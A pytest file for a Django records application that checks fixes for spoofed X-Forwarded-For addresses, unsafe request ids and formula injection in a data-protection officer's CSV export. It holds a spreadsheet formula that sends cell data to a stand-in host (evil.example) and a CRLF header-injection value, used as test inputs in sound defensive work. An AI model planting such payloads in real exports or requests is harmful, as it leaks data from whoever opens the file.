"""The request context a probe could forge: the client address behind proxies (login throttling and the access
log use it) and the request id (logs and the DPO's CSV export carry it); spreadsheet-safe CSV cells."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client, RequestFactory
from django.urls import reverse

from proactif.accounts.models import LoginAttempt
from proactif.audit.models import AccessLog
from proactif.kernel import csvexport
from proactif.kernel.middleware import REQUEST_ID, client_ip, request_id_from
from tests.conftest import some_person_id

FORGED = '=HYPERLINK("https://evil.example/?d="&A1,"ouvrir")'


@pytest.mark.parametrize(("proxies", "forwarded", "expected"), [
    (0, "6.6.6.6", "10.0.0.9"),  # no proxy declared: the header is somebody's say-so
    (1, "6.6.6.6, 203.0.113.9", "203.0.113.9"),  # the client wrote 6.6.6.6, our proxy appended the real one
    (1, "203.0.113.9", "203.0.113.9"),
    (2, "6.6.6.6, 203.0.113.9, 10.0.0.2", "203.0.113.9"),
    (2, "203.0.113.9", "10.0.0.9"),  # fewer addresses than proxies: only the connection is known
    (1, "not-an-address", "10.0.0.9"),
    (1, "", "10.0.0.9"),
    (1, "2001:db8::1", "2001:db8::1"),
])
def test_the_client_address_is_the_one_the_trusted_proxies_vouch_for(settings, proxies, forwarded,
                                                                     expected) -> None:
    settings.TRUSTED_PROXIES = proxies
    settings.HTTPS = True  # used to mean "trust the leftmost X-Forwarded-For"
    request = RequestFactory().get("/", REMOTE_ADDR="10.0.0.9", HTTP_X_FORWARDED_FOR=forwarded)
    assert client_ip(request) == expected


@pytest.mark.django_db
def test_a_rotating_forwarded_header_neither_dodges_throttling_nor_forges_the_logged_address(
        settings, agents, fixed_clock) -> None:
    """The probe's case: 25 wrong passwords, each with a new X-Forwarded-For, got through the 20-per-address
    throttling, and the access log kept the forged address."""
    settings.HTTPS = True
    client = Client()
    statuses = [client.post(reverse("accounts:login"), {"email": f"guess{i}@test.proactif.fr", "password": "x"},
                            REMOTE_ADDR="10.7.7.7", HTTP_X_FORWARDED_FOR=f"198.51.100.{i}").status_code
                for i in range(25)]
    assert statuses[:20] == [401] * 20 and statuses[20:] == [429] * 5
    assert set(LoginAttempt.objects.filter(email__startswith="guess").values_list("ip", flat=True)) == {"10.7.7.7"}

    client.force_login(agents["etat_civil"])
    person_id = some_person_id()
    assert client.get(f"/habitants/{person_id}/", REMOTE_ADDR="10.7.7.8",
                      HTTP_X_FORWARDED_FOR="192.0.2.66").status_code == 200
    assert AccessLog.objects.filter(person_id=person_id).latest("id").ip == "10.7.7.8"


@pytest.mark.parametrize(("header", "kept"), [
    ("abc-123_x.y", True), ("a", True), ("x" * 64, True), ("x" * 65, False), (FORGED, False), ("a b", False),
    ("id\r\nSet-Cookie: x=1", False), ("é" * 8, False), ("", False)])
def test_a_request_id_is_kept_only_when_it_is_a_plain_token(header: str, kept: bool) -> None:
    result = request_id_from(header)
    assert (result == header) is kept
    assert REQUEST_ID.fullmatch(result)  # a generated one is a token too


@pytest.mark.django_db
def test_a_formula_sent_as_request_id_never_reaches_the_dpo_export(agents) -> None:
    """The probe's case: `=HYPERLINK(…)` in X-Request-ID was stored verbatim and came out of the DPO's CSV as a
    live formula."""
    reader = Client()
    reader.force_login(agents["etat_civil"])
    person_id = some_person_id()
    response = reader.get(f"/habitants/{person_id}/", HTTP_X_REQUEST_ID=FORGED)
    assert response.status_code == 200 and response["X-Request-ID"] != FORGED
    row = AccessLog.objects.filter(person_id=person_id).latest("id")
    assert row.request_id == response["X-Request-ID"] and "HYPERLINK" not in row.request_id

    dpo = Client()
    dpo.force_login(agents["dpo"])
    export = dpo.get("/dpo/journal.csv", {"personne": person_id})
    text = b"".join(export.streaming_content).decode()
    cells = [cell for line in csv.reader(io.StringIO(text), delimiter=";") for cell in line]
    assert "HYPERLINK" not in text and not any(c.startswith(csvexport.FORMULA_STARTS) for c in cells)


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+33 6 12", "'+33 6 12"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("Durand", "Durand"), ("", ""), ("a=b", "a=b"), (-2, -2), (1.5, 1.5), (None, None)])
def test_every_text_cell_a_spreadsheet_would_run_gets_an_apostrophe(value: object, written: object) -> None:
    assert csvexport.safe_cell(value) == written
    buffer = io.StringIO()
    csvexport.writer(buffer).writerows([[value, "ok"]])
    assert next(csv.reader(io.StringIO(buffer.getvalue()), delimiter=";")) == \
        ["" if written is None else str(written), "ok"]
